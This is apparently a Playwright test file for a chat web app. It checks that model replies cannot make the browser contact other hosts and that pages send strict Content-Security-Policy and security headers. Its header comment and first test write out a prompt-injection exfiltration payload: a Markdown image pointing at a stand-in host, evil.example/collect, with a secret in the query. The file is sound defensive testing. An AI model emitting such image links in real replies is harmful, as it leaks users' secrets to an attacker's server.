import type { Page } from "@playwright/test";
import { USERS } from "../fixtures/auth";
import { expect, test } from "../fixtures/mock-model";

/**
 * Model output cannot make the browser talk to another host. A prompt-injected reply that
 * embeds an image (`![](https://evil/?q=<secrets>)`) would otherwise be fetched with no click;
 * it is shown as a link, and every page's Content-Security-Policy would block it anyway.
 * The mock model's `reply=` directive sets the reply's exact Markdown.
 */

const tag = () => crypto.randomUUID().slice(0, 8);

const LOCAL_HOSTS = new Set(["localhost", "127.0.0.1", "[::1]"]);

/** Every http(s) request the page makes to a host other than the test servers'. */
function recordForeignRequests(page: Page): string[] {
  const foreign: string[] = [];
  page.on("request", (r) => {
    const url = new URL(r.url());
    if (url.protocol.startsWith("http") && !LOCAL_HOSTS.has(url.hostname)) foreign.push(r.url());
  });
  return foreign;
}

/** CSP violations the browser reports on the console (a blocked script would break the page). */
function recordCspViolations(page: Page): string[] {
  const violations: string[] = [];
  page.on("console", (m) => {
    if (/Content Security Policy/i.test(m.text())) violations.push(m.text());
  });
  return violations;
}

test("a reply with a remote image makes no request to another host: the image is a link", async ({ page, signInAs }) => {
  const foreign = recordForeignRequests(page);
  const chat = await signInAs(USERS.alice.email);
  const token = tag();
  const url = `http://evil.example/collect?q=secret-${token}`;
  await chat.send(`[[mock:reply=Here is your chart ![chart ${token}](${url}) as requested]] draw ${token}`);
  await chat.expectLastReplyStatus("complete");

  const link = chat.lastAssistant.getByRole("link", { name: `Image: chart ${token} (${url})` });
  await expect(link).toHaveAttribute("href", url);
  await expect(link).toHaveAttribute("target", "_blank");
  await expect(link).toHaveAttribute("rel", "noopener noreferrer nofollow");
  await expect(chat.lastAssistant.locator("img")).toHaveCount(0);

  // The stored reply, rendered on the server after a reload, is no different.
  await chat.reload();
  await expect(chat.lastAssistant.getByRole("link", { name: `Image: chart ${token} (${url})` })).toBeVisible();
  await expect(chat.lastAssistant.locator("img")).toHaveCount(0);
  expect(foreign).toEqual([]);
});

test("every page is sent with a nonce-based CSP that its own scripts carry", async ({ page, signInAs, playwright, baseURL }) => {
  const violations = recordCspViolations(page);
  await signInAs(USERS.alice.email); // hydrated: the composer is enabled, so no script was blocked

  const res = await page.request.get("/chat");
  expect(res.status()).toBe(200);
  const headers = res.headers();
  const csp = headers["content-security-policy"] ?? "";
  for (const directive of [
    "default-src 'self'",
    "img-src 'self' data: blob:",
    "connect-src 'self'",
    "frame-ancestors 'none'",
    "form-action 'self'",
    "object-src 'none'",
  ]) {
    expect(csp).toContain(directive);
  }
  const nonce = /'nonce-([A-Za-z0-9+/=]+)'/.exec(csp)?.[1];
  expect(nonce, csp).toBeTruthy();
  expect(csp).toMatch(/script-src [^;]*'strict-dynamic'/);
  expect(csp).not.toMatch(/script-src [^;]*'unsafe-(inline|eval)'/);
  expect(headers["x-content-type-options"]).toBe("nosniff");
  expect(headers["referrer-policy"]).toBe("strict-origin-when-cross-origin");

  // Next puts the nonce on every script it renders; a new page view gets a new nonce.
  const scripts = [...(await res.text()).matchAll(/<script\b[^>]*>/g)].map((m) => m[0]);
  expect(scripts.length).toBeGreaterThan(0);
  for (const s of scripts) expect(s).toContain(`nonce="${nonce}"`);
  const again = (await page.request.get("/chat")).headers()["content-security-policy"];
  expect(again).not.toBe(csp);

  // Signed out, and pages that are not found, too; and the app's pages run under it.
  const anonymous = await playwright.request.newContext({ baseURL });
  for (const path of ["/signin", "/no-such-page"]) {
    const r = await anonymous.get(path, { maxRedirects: 0 });
    expect(r.headers()["content-security-policy"], path).toContain(`'nonce-`);
    const tags = [...(await r.text()).matchAll(/<script\b[^>]*>/g)].map((m) => m[0]);
    const n = /'nonce-([A-Za-z0-9+/=]+)'/.exec(r.headers()["content-security-policy"] ?? "")?.[1];
    for (const s of tags) expect(s, path).toContain(`nonce="${n}"`);
  }
  await anonymous.dispose();
  for (const path of ["/settings/privacy", "/settings/keys", "/no-such-page"]) {
    await page.goto(path);
    await page.waitForLoadState("networkidle");
  }
  expect(violations).toEqual([]);
});

test("API answers carry nosniff, the referrer policy and a CSP that loads nothing", async ({ request }) => {
  const res = await request.get("/api/health");
  const headers = res.headers();
  expect(headers["x-content-type-options"]).toBe("nosniff");
  expect(headers["referrer-policy"]).toBe("strict-origin-when-cross-origin");
  expect(headers["content-security-policy"]).toBe("default-src 'none'; frame-ancestors 'none'");
  const refused = await request.post("/api/chat", { data: {} });
  expect(refused.status()).toBe(401);
  expect(refused.headers()["x-content-type-options"]).toBe("nosniff");
  expect(refused.headers()["content-security-policy"]).toBe("default-src 'none'; frame-ancestors 'none'");
});
